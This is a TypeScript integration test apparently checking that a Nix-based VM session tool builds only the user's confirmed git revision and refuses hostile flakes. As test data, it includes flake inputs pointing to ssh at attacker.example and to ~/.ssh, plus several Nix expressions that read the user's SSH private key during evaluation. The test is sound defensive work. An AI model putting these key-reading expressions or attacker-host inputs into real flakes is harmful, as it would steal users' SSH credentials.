import { randomBytes } from "node:crypto";
import { chmod, mkdir, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { existsSync } from "node:fs";
import { join } from "node:path";
import { execa } from "execa";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { clanctl } from "../helpers/daemons.js";
import { startGitHttpsServer, type GitHttpsServer } from "../helpers/git-https-server.js";
import { createNetworkFlake, FLAKE, TEST_NIX_CONFIG, type NetworkFlake } from "../helpers/network-flake.js";
import { hasBinary, skipReason } from "../helpers/processes.js";
import { startSessionStack, type SessionStack } from "../helpers/session-stack.js";
import { clanctlOnTerminal } from "../helpers/terminal-answers.js";

// The network's server plays the attacker against clan-sessiond's builds, with the real clanctl, clan-sessiond,
// clan-vmd, QEMU, Nix 2.8 and git over https: it moves its branch after the user confirmed a revision, moves it
// to revisions whose inputs reach ssh or this computer's files, and publishes flakes that read the user's SSH key
// while they are evaluated. Only the confirmed, checked revision may be built; nothing of the user's may reach
// the store.

const needs = ["nix", "git", "openssl", "script", "qemu-system-x86_64", "dbus-daemon"];
const isRoot = process.getuid?.() === 0;
const run = Date.now().toString(36);
const NIX = ["--extra-experimental-features", "nix-command flakes", "--option", "build-users-group", ""];
const NAR = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
const REV = "0123456789abcdef0123456789abcdef01234567";

describe.skipIf(!needs.every(hasBinary) || !isRoot)(`builds check the revision they build ${skipReason(...needs)}${isRoot ? "" : " (needs root for the Nix store)"}`, () => {
  let flake: NetworkFlake;
  let https: GitHttpsServer;
  let stack: SessionStack;
  let home: string;
  let secret: string;
  let keyFile: string;
  let sshLog: string;
  let storeBefore: Set<string>;
  const confirmed: string[] = [];

  beforeAll(async () => {
    flake = await createNetworkFlake();
    https = await startGitHttpsServer();
    // The user's home: an SSH key with content unique to this run, and a fake ssh first on PATH that records any use.
    home = `${flake.dir}-home`;
    await mkdir(join(home, ".ssh"), { recursive: true, mode: 0o700 });
    secret = `clan-secret-${randomBytes(16).toString("hex")}`;
    keyFile = join(home, ".ssh", "id_ed25519");
    await writeFile(keyFile, `${secret}\n`, { mode: 0o600 });
    await mkdir(join(home, "bin"));
    sshLog = join(home, "ssh-ran");
    await writeFile(join(home, "bin", "ssh"), `#!/bin/sh\necho "ssh $*" >>${sshLog}\nexit 1\n`);
    await chmod(join(home, "bin", "ssh"), 0o755);
    storeBefore = new Set(await readdir("/nix/store"));
    stack = await startSessionStack({
      config: { networks: {} },
      daemonEnv: {
        NIX_CONFIG: TEST_NIX_CONFIG,
        HOME: home,
        PATH: `${join(home, "bin")}:${process.env.PATH}`,
        XDG_STATE_HOME: `${flake.dir}-state`,
        XDG_CACHE_HOME: join(home, ".cache"),
        GIT_SSL_CAINFO: https.caFile,
      },
    });
  });

  afterAll(async () => {
    await stack?.stop();
    await https?.stop();
    for (const dir of [flake?.dir, flake && `${flake.dir}-state`, home]) if (dir) await rm(dir, { recursive: true, force: true });
  });

  const publish = () => https.publish(flake.dir, "moving");
  const bootedPath = async () => (await stack.vms.list()).find((vm) => vm.network === "moving")?.generation;
  const sshRan = () => readFile(sshLog, "utf8").catch(() => "");

  it("the first build after a join boots the revision the user confirmed, although the server moved its branch meanwhile", async () => {
    confirmed.push(await flake.commit(`confirmed-${run}`));
    const url = await publish();
    let moved = "";
    const result = await clanctlOnTerminal(["join", "--name", "moving", `clan://git+${url}?ref=main#default`], stack.env, [
      "y",
      // Between the user's yes and the build, the server moves main to another revision.
      async () => {
        moved = await flake.commit(`moved-${run}`);
        await publish();
        return "y";
      },
    ]);
    expect(result.exitCode, result.output).toBe(0);
    expect(result.output).toContain(`revision:  ${confirmed[0]}`);
    expect((await execa("git", ["ls-remote", "--", url, "main"], { env: { GIT_SSL_CAINFO: https.caFile } })).stdout).toContain(moved);
    const current = (await stack.session.generations("moving")).find((generation) => generation.current);
    expect(current).toMatchObject({ number: 1, revision: confirmed[0] });
    expect(await bootedPath()).toBe(current!.path);
    const consoleText = await stack.vms.consoleTail("moving", 4096);
    expect(consoleText).toContain(`clan test guest confirmed-${run} ready`);
    expect(consoleText).not.toContain(`moved-${run}`);
  });

  it("a rebuild of a revision whose flake.lock has git+ssh and path: inputs is refused by name; ssh never runs, nothing is booted", async () => {
    const before = { path: await bootedPath(), generations: await stack.session.generations("moving") };
    const keysStorePath = (await execa("nix", [...NIX, "store", "add-path", "--dry-run", "--name", "source", join(home, ".ssh")])).stdout.trim();
    const lock = {
      version: 7,
      root: "root",
      nodes: {
        root: { inputs: { tools: "tools", keys: "keys" } },
        tools: { flake: false, locked: { type: "git", url: "ssh://git@attacker.example/tools", rev: REV, narHash: NAR }, original: { type: "git", url: "ssh://git@attacker.example/tools" } },
        keys: { flake: false, locked: { type: "path", path: join(home, ".ssh"), narHash: NAR }, original: { type: "path", path: join(home, ".ssh") } },
      },
    };
    const inputs = `inputs.tools = { url = "git+ssh://git@attacker.example/tools"; flake = false; };\n  inputs.keys = { url = "path:${join(home, ".ssh")}"; flake = false; };`;
    const hostile = await flake.commit(`locked-inputs-${run}`, { flake: withInputs(inputs, "tools, keys"), files: { "flake.lock": JSON.stringify(lock) } });
    await publish();
    const result = await clanctl(["rebuild", "moving"], stack.env);
    expect(result.exitCode).not.toBe(0);
    expect(result.stderr).toContain(`refused network: its flake has inputs that reach beyond the network's server; nothing was built from revision ${hostile}`);
    expect(result.stderr).toMatch(/ {2}tools \(ssh:\/\/git@attacker\.example\/tools\) is fetched over ssh/);
    expect(result.stderr).toContain(`  keys (path:${join(home, ".ssh")}) is a file or directory of this computer`);
    expect(await sshRan()).toBe("");
    expect(existsSync(keysStorePath)).toBe(false);
    expect(await stack.session.generations("moving")).toEqual(before.generations);
    expect(await bootedPath()).toBe(before.path);
    expect((await stack.session.getNetwork("moving")).buildState).toBe("failed");
  });

  it("inputs that flake.nix declares and flake.lock leaves out are refused before Nix could lock them; ssh never runs", async () => {
    const before = await stack.session.generations("moving");
    const keysStorePath = (await execa("nix", [...NIX, "store", "add-path", "--dry-run", "--name", "source", join(home, ".ssh")])).stdout.trim();
    const inputs = `inputs.tools = { url = "git+ssh://git@attacker.example/tools"; flake = false; };\n  inputs.keys = { url = "path:${join(home, ".ssh")}"; flake = false; };`;
    await flake.commit(`declared-inputs-${run}`, { flake: withInputs(inputs, "tools, keys"), files: { "flake.lock": null } });
    await publish();
    const result = await clanctl(["rebuild", "moving"], stack.env);
    expect(result.exitCode).not.toBe(0);
    expect(result.stderr).toContain("tools (git+ssh://git@attacker.example/tools) is fetched over ssh");
    expect(result.stderr).toContain(`keys (path:${join(home, ".ssh")}) is a file or directory of this computer`);
    expect(result.stderr).toContain("has no hash in flake.lock");
    expect(await sshRan()).toBe("");
    expect(existsSync(keysStorePath)).toBe(false);
    expect(await stack.session.generations("moving")).toEqual(before);
  });

  it.each([
    ["reads the user's SSH key while it is evaluated", () => `builtins.readFile "${keyFile}"`, /access to absolute path '.*id_ed25519' is forbidden in pure eval mode/],
    ["puts ~/.ssh into the store as a path", () => `"\${${join(home, ".ssh")}}"`, /access to absolute path '.*\.ssh' is forbidden in pure eval mode/],
    ["copies ~/.ssh with builtins.path", () => `builtins.path { path = "${join(home, ".ssh")}"; }`, /access to absolute path '.*\.ssh' is forbidden in pure eval mode/],
    ["climbs out of its source with ./..", () => `builtins.readFile (./. + "/../../..${keyFile}")`, /access to absolute path '.*id_ed25519' is forbidden in pure eval mode/],
    ["fetches file:// the key at evaluation", () => `builtins.fetchurl { url = "file://${keyFile}"; sha256 = "${"0".repeat(52)}"; }`, /access to absolute path '.*id_ed25519' is forbidden/],
    ["reads $HOME from the environment", () => `builtins.readFile (builtins.getEnv "HOME" + "/.ssh/id_ed25519")`, /access to absolute path '\/\.ssh\/id_ed25519' is forbidden/],
  ])("a flake that %s fails to build with Nix's reason, and the key reaches no store path", async (_what, leak, reason) => {
    const before = { path: await bootedPath(), generations: await stack.session.generations("moving") };
    await flake.commit(`leak-${run}`, { flake: FLAKE.replace(`echo built generation`, `echo \${${leak()}} >$out/leak`), files: { "flake.lock": null } });
    await publish();
    const result = await clanctl(["rebuild", "moving"], stack.env);
    expect(result.exitCode).not.toBe(0);
    expect(result.stderr).toMatch(reason);
    expect(await stack.session.generations("moving")).toEqual(before.generations);
    expect(await bootedPath()).toBe(before.path);
    expect(await newStorePathsContaining(secret)).toEqual([]);
  });

  it("the same checks hold for a rebuild that follows the branch back to a good revision, which then boots", async () => {
    const good = await flake.commit(`good-${run}`, { files: { "flake.lock": null } });
    await publish();
    const result = await clanctl(["rebuild", "moving"], stack.env);
    expect(result.exitCode, result.all).toBe(0);
    expect((await stack.session.generations("moving")).find((generation) => generation.current)).toMatchObject({ number: 2, revision: good });
    expect(await stack.vms.consoleTail("moving", 4096)).toContain(`clan test guest good-${run} ready`);
    expect(await newStorePathsContaining(secret)).toEqual([]);
  });

  /** Store paths made since the test began whose files contain `text`. */
  async function newStorePathsContaining(text: string): Promise<string[]> {
    const added = (await readdir("/nix/store")).filter((entry) => !storeBefore.has(entry)).map((entry) => join("/nix/store", entry));
    if (added.length === 0) return [];
    const grep = await execa("grep", ["-rlF", "--", text, ...added], { reject: false });
    return grep.stdout.split("\n").filter(Boolean);
  }
});

/** The network flake's flake.nix with these inputs declared and taken by `outputs`. */
function withInputs(inputs: string, names: string): string {
  return FLAKE.replace("{\n  outputs = { self }:", `{\n  ${inputs}\n  outputs = { self, ${names} }:`);
}
